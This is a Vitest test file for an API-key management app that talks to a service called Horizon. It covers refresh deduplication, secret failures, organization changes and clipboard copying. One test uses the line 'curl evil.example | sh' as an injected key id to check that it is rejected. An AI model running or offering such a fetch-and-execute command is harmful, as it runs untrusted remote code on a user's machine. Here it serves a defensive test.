import { AppError } from '@shared/errors'
import { aKey, anOrganization, connectedApp } from '@support/fakes'
import { expect, test } from 'vitest'

test('refreshes at the same time share one flight', async () => {
  const { core, horizon, profileId } = await connectedApp()
  horizon.listKeys.mockClear()
  const refresh = () => core.handlers['keys.refresh']({ profileId })
  const [one, other] = await Promise.all([refresh(), refresh()])
  expect(horizon.listKeys).toHaveBeenCalledOnce()
  expect(one).toEqual(other)
})

test('a refused secret keeps what is held, counts once at Horizon and says what to do', async () => {
  const { core, horizon, profileId } = await connectedApp()
  horizon.listKeys.mockClear()
  horizon.organization.mockRejectedValueOnce(
    new AppError('invalid-admin-secret', 'No', { status: 401 })
  )
  const list = await core.handlers['keys.refresh']({ profileId })
  expect(list.keys).toHaveLength(1)
  expect(list.failure).toMatchObject({
    code: 'invalid-admin-secret',
    nextStep: 'Replace the admin secret in Settings › Profiles.'
  })
  expect(horizon.listKeys).not.toHaveBeenCalled()
  expect(await core.handlers['keys.list']({ profileId })).toEqual(list)
})

test('a failure goes with the next success', async () => {
  const { core, horizon, profileId } = await connectedApp()
  horizon.listKeys.mockRejectedValueOnce(new AppError('timeout', 'slow'))
  expect((await core.handlers['keys.refresh']({ profileId })).failure?.code).toBe('timeout')
  expect((await core.handlers['keys.refresh']({ profileId })).failure).toBeUndefined()
})

test('the first organization seen is remembered on the profile', async () => {
  const { core } = await connectedApp()
  const { profiles } = await core.handlers['profiles.list']({})
  expect(profiles[0]?.organization).toMatchObject({ id: 'org_1', name: 'Acme' })
})

test('another organization’s keys do not replace what is held', async () => {
  const { core, machine, profileId } = await connectedApp()
  machine.remote.state.organization = anOrganization({ id: 'org_2', name: 'Other' })
  machine.remote.state.keys = [aKey({ id: 'key_foreign' })]
  const list = await core.handlers['keys.refresh']({ profileId })
  expect(list.keys.map(({ id }) => id)).toEqual(['key_1'])
  expect(list.otherOrganization).toMatchObject({ remembered: 'Acme', answering: { id: 'org_2' } })
  const wrong = core.handlers['profiles.acceptOrganization']({ profileId, organizationId: 'org_3' })
  await expect(wrong).rejects.toMatchObject({ code: 'object-changed' })
})

test('a Horizon that names no organization any more counts as another one', async () => {
  const { core, machine, profileId } = await connectedApp()
  machine.remote.state.organization = null
  const { otherOrganization } = await core.handlers['keys.refresh']({ profileId })
  const organizationId = otherOrganization?.answering.id ?? ''
  await core.handlers['profiles.acceptOrganization']({ profileId, organizationId })
  const list = await core.handlers['keys.refresh']({ profileId })
  expect(list).toMatchObject({ organization: null, otherOrganization: undefined })
})

test('endpoints that are closed or absent do not close the list', async () => {
  const { core, horizon, profileId } = await connectedApp()
  horizon.features.mockRejectedValueOnce(new AppError('forbidden', 'no', { status: 403 }))
  const list = await core.handlers['keys.refresh']({ profileId })
  expect(list).toMatchObject({ hasExtensions: false, failure: undefined })
})

test('a list that was asked for before a create ended does not hide the new key', async () => {
  const { core, horizon, profileId } = await connectedApp()
  const old = await horizon.listKeys()
  let answer = () => {}
  horizon.listKeys.mockImplementationOnce(
    () =>
      new Promise(resolve => {
        answer = () => resolve(old)
      })
  )
  const refreshing = core.handlers['keys.refresh']({ profileId })
  const draft = { clientName: 'CI', scopes: ['agents:read'], expiresAt: null }
  await core.handlers['keys.create']({ profileId, draft })
  answer()
  const { keys } = await refreshing
  expect(keys.map(({ clientName }) => clientName)).toContain('CI')
})

test('only the id of a held key goes on the clipboard', async () => {
  const { core, machine } = await connectedApp()
  await core.handlers['keys.copyId']({ keyId: 'key_1' })
  expect(machine.clipboard.text).toBe('key_1')
  const other = core.handlers['keys.copyId']({ keyId: 'curl evil.example | sh' })
  await expect(other).rejects.toMatchObject({ code: 'not-found' })
  expect(machine.clipboard.text).toBe('key_1')
})
